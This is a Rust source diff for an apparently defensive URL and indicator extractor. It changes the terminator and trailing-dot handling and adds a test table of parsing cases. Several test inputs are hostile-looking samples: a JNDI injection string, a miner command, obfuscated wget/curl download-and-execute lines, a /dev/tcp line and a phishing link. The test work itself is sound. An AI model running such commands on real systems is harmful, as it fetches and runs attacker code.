@@ -137,7 +137,7 @@ fn is_terminator(char: char) -> bool {
     match char {
         '\0'..=' ' | '"' | '\'' | '<' | '>' | '\\' | '^' | '`' | '{' | '}' | '|' | '\x7f' => true,
         '!'..='~' => false,
-        '\u{80}'..='\u{bf}' | '\u{2000}'..='\u{206f}' | '\u{3000}'..='\u{303f}' | '\u{ff00}'..='\u{ff0f}' | '\u{fff0}'..='\u{ffff}' => true,
+        '\u{80}'..='\u{bf}' | '\u{2000}'..='\u{206f}' | '\u{3000}'..='\u{303f}' | '\u{ff00}'..='\u{ff0f}' | '；' | '？' | '\u{fff0}'..='\u{ffff}' => true,
         _ => false,
     }
 }
@@ -173,7 +173,13 @@ fn authority(text: &Text<'_>, start: usize, has_scheme: bool) -> Option<Authorit
     }
     let mut host_length = rest.find(|char| !domain::is_name_char(char)).unwrap_or(rest.len());
     // A dot at the end belongs to the name only if more of the URL follows.
-    while host_length > 0 && bytes[host_length - 1] == b'.' && !text.plain[host_start + host_length..].starts_with(['/', ':', '?', '#']) {
+    let behind = &text.plain.as_bytes()[host_start + host_length..];
+    let goes_on = match behind.first() {
+        Some(b'/' | b'?' | b'#') => true,
+        Some(b':') => behind.get(1).is_some_and(u8::is_ascii_digit),
+        _ => false,
+    };
+    while !goes_on && host_length > 0 && bytes[host_length - 1] == b'.' {
         host_length -= 1;
     }
     let host = &rest[..host_length];
@@ -363,5 +369,124 @@ fn without_scheme(text: &Text<'_>, found: &mut Found) {
     let is_address = text.context == Context::Address;
     if is_address || !text.defanged.is_empty() {
         domain::each(text, |range, _| !(is_address || text.is_defanged(&range)) || !is_free(range.start) || note(range.start));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::Context::*;
+    use super::super::tests::check;
+    use super::*;
+
+    #[test]
+    fn urls_are_found_whole_and_nothing_around_them() {
+        check(
+            Field::Url,
+            &[
+                // schemes
+                (Other, "http://example.com", &["http://example.com"]),
+                (Other, "HTTPS://Example.COM/Path?Q=1#F", &["https://example.com/Path?Q=1#F"]),
+                (Other, "ftp://anonymous:anonymous@192.0.2.1/.sh", &["ftp://anonymous:anonymous@192.0.2.1/.sh"]),
+                (Other, "tftp://192.0.2.1:69/shr", &["tftp://192.0.2.1:69/shr"]),
+                (Other, "${jndi:ldap://evil.com:1389/a}", &["ldap://evil.com:1389/a"]),
+                (Other, "jndi:rmi://192.0.2.1:1099/x", &["rmi://192.0.2.1:1099/x"]),
+                (Other, "dns://evil.com/x ws://evil.com/y wss://evil.com/z", &["dns://evil.com/x", "ws://evil.com/y", "wss://evil.com/z"]),
+                (Command, "xmrig -o stratum+tcp://pool.evil.com:3333 -u x", &["stratum+tcp://pool.evil.com:3333"]),
+                (Other, "tcp://192.0.2.1:80 udp://192.0.2.1:53", &["tcp://192.0.2.1:80", "udp://192.0.2.1:53"]),
+                (Other, "ssh://git@example.com:22/a.git", &["ssh://git@example.com:22/a.git"]),
+                (Other, "file:///etc/passwd", &[]),
+                (Other, "foo://example.com/", &[]),
+                (Other, "://example.com/", &[]),
+                (Other, "//example.com/x", &[]),
+                (Other, "xhttp://example.com/", &["http://example.com/"]),
+                (Other, "url=http://example.com/&x", &["http://example.com/&x"]),
+                // hosts
+                (Other, "http://example.com.", &["http://example.com"]),
+                (Other, "http://example.com./x", &["http://example.com./x"]),
+                (Other, "http://localhost:8080/x", &["http://localhost:8080/x"]),
+                (Other, "http://my_host.example.com/", &["http://my_host.example.com/"]),
+                (Other, "http://xn--bcher-kva.de/", &["http://xn--bcher-kva.de/"]),
+                (Other, "http://Bücher.de/Ü", &["http://bücher.de/Ü"]),
+                (Other, "http://例え.jp/道", &["http://例え.jp/道"]),
+                (Other, "http://[2001:db8::1]:80/x", &["http://[2001:db8::1]:80/x"]),
+                (Other, "http://[fe80::1%25eth0]/x", &["http://[fe80::1%25eth0]/x"]),
+                (Other, "http://2001:DB8:0:0:0:0:0:1/x", &["http://2001:db8:0:0:0:0:0:1/x"]),
+                (Other, "http://0x7f000001/ http://2130706433/ http://0177.0.0.1/", &["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/"]),
+                (Other, "http://1.2.3.4.5/ http://999.1.1.1/ http://1.2/ http://7/", &[]),
+                (Other, "http:// http:/// http://. http://-/ http://.com/", &[]),
+                (Other, "http://$IP/x http://${HOST}/y http://%s/z http://<ip>/w", &[]),
+                // ports and users
+                (Other, "http://example.com:8080", &["http://example.com:8080"]),
+                (Other, "http://example.com:", &["http://example.com"]),
+                (Other, "http://example.com:99999/x", &["http://example.com"]),
+                (Other, "http://example.com:http/x", &["http://example.com"]),
+                (Other, "http://user:p%40ss@Example.com:80/x", &["http://user:p%40ss@example.com:80/x"]),
+                (Other, "http://google.com@evil.com/x", &["http://google.com@evil.com/x"]),
+                // the edges
+                (Other, "see http://example.com/a.", &["http://example.com/a"]),
+                (Other, "http://example.com/a, http://example.com/b; http://example.com/c!", &["http://example.com/a", "http://example.com/b", "http://example.com/c"]),
+                (Other, "(http://example.com/a)", &["http://example.com/a"]),
+                (Other, "http://example.com/a_(b)", &["http://example.com/a_(b)"]),
+                (Other, "(see http://example.com/a_(b))", &["http://example.com/a_(b)"]),
+                (Other, "[x](http://example.com/a)", &["http://example.com/a"]),
+                (Other, "<http://example.com/a>", &["http://example.com/a"]),
+                (Other, "<a href='http://example.com/a'>x</a>", &["http://example.com/a"]),
+                (Other, "&lt;http://example.com/a&gt;", &["http://example.com/a"]),
+                (Other, "href=&quot;http://example.com/?a=1&amp;b=2&quot;", &["http://example.com/?a=1&amp;b=2"]),
+                (Other, "{\"u\":\"http://example.com/a\",\"v\":1}", &["http://example.com/a"]),
+                (Other, "{\"u\":\"http:\\/\\/example.com\\/a\"}", &["http://example.com/a"]),
+                (Other, "{u:http://example.com/a}", &["http://example.com/a"]),
+                (Other, "http://example.com/a\\r\\nHost: x", &["http://example.com/a"]),
+                (Other, "**http://example.com/a**", &["http://example.com/a"]),
+                (Chat, "请打开http://example.com/a，谢谢", &["http://example.com/a"]),
+                (Chat, "打开http://example.com/a谢谢", &["http://example.com/a"]),
+                (Chat, "\u{201c}http://example.com/a\u{201d}\u{2026}", &["http://example.com/a"]),
+                (Chat, "http://exam\u{200b}ple.com/a", &["http://example.com/a"]),
+                (Chat, "ｈｔｔｐ：／／ｅｘａｍｐｌｅ．ｃｏｍ／ａ", &["http://example.com/a"]),
+                (Chat, "http://example\u{3002}com/a", &["http://example.com/a"]),
+                (Chat, "http://\u{202e}example.com/a", &["http://example.com/a"]),
+                (Chat, "http://amaz0n-deals.fake-site.com/claim?id=12345. Offer", &["http://amaz0n-deals.fake-site.com/claim?id=12345"]),
+                // defanged
+                (Other, "hxxp://example[.]com/a", &["http://example.com/a"]),
+                (Other, "hXXps[:]//example(dot)com[/]a", &["https://example.com/a"]),
+                (Other, "h**p://example{.}com/a h__p://example.com/b", &["http://example.com/a", "http://example.com/b"]),
+                (Other, "fxp://example.com/a", &["ftp://example.com/a"]),
+                (Other, "hxxp[://]example[.com/a", &["http://example.com/a"]),
+                (Other, "http://example.]com/a", &["http://example.com/a"]),
+                (Other, "http://example,com/a http://[example.com]/b", &["http://example.com/a", "http://example.com/b"]),
+                (Other, "http://a.com,http://b.com", &["http://a.com", "http://b.com"]),
+                (Other, "example[.]com/a example.com/b", &["example.com/a"]),
+                (Other, "192[.]0[.]2[.]1:9090/url", &["192.0.2.1:9090/url"]),
+                (Other, "hxxp is a scheme (dot) (at) [.] [://]", &[]),
+                // without a scheme
+                (Other, "192.0.2.1/a 192.0.2.1:80/b", &["192.0.2.1/a", "192.0.2.1:80/b"]),
+                (Other, "192.0.2.1:80 100.20.30.0/24 192.0.2.1/32.", &[]),
+                (Other, "./run.sh/x 21/11/2026 1.2.3/x Chrome/1.2.3.4/x", &[]),
+                (Command, "wget 192.0.2.1/x.sh", &["192.0.2.1/x.sh"]),
+                (Command, "wget -q Evil.sh/X -O x.sh", &["evil.sh/X"]),
+                (Command, "curl -O ftp.example.com/a", &["ftp.example.com/a"]),
+                (Command, "ftpget 192.0.2.1 a b; tftp -g -r x 192.0.2.1", &[]),
+                (Command, "cat /dev/tcp/192.0.2.1/443 ls example.com/x", &[]),
+                (Address, "example.com/x", &["example.com/x"]),
+                // commands
+                (Command, "wget http://192.0.2.1/a;sh a", &["http://192.0.2.1/a"]),
+                (Command, "(wget http://192.0.2.1/a||curl http://192.0.2.1/b)&", &["http://192.0.2.1/a", "http://192.0.2.1/b"]),
+                (Command, "wget http://192.0.2.1/a&&sh a", &["http://192.0.2.1/a"]),
+                (Command, "curl http://192.0.2.1/?a=1&b=2 &", &["http://192.0.2.1/?a=1&b=2"]),
+                (Command, "curl \"http://192.0.2.1/a;b?c=1&d=2\"", &["http://192.0.2.1/a;b?c=1&d=2"]),
+                (Command, "sh -c `curl http://192.0.2.1/a`", &["http://192.0.2.1/a"]),
+                (Command, "wget http://192.0.2.1/bins/${arch} http://192.0.2.1/{a,b}", &["http://192.0.2.1/bins/${arch}", "http://192.0.2.1/{a,b}"]),
+                (Command, "wget${IFS}http://192.0.2.1/a${IFS}-O$IFS-", &["http://192.0.2.1/a"]),
+                (Command, "wget ht''tp://192.0.2.1/a", &["http://192.0.2.1/a"]),
+                (Command, "wget http://192.0.2.1/\\\nabc", &["http://192.0.2.1/abc"]),
+                (Command, "python -c \"u=u'http://192.0.2.1/a'\"", &["http://192.0.2.1/a"]),
+                (Command, "/tool fetch url=http://evil.xyz/a mode=http dst-path=b.rsc\\r\\n/import b.rsc", &["http://evil.xyz/a"]),
+                // one in another
+                (Other, "http://a.com/?u=http://b.com/x", &["http://a.com/?u=http://b.com/x", "http://b.com/x"]),
+                (Other, "http://a.com/?u=http%3A%2F%2Fb.com%2Fx&v=1", &["http://a.com/?u=http%3A%2F%2Fb.com%2Fx&v=1", "http://b.com/x"]),
+                (Other, "%68%74%74%70%3a%2f%2fb.com/x", &["http://b.com/x"]),
+                (Hash, "http://example.com/", &["http://example.com/"]),
+            ],
+        );
     }
 }
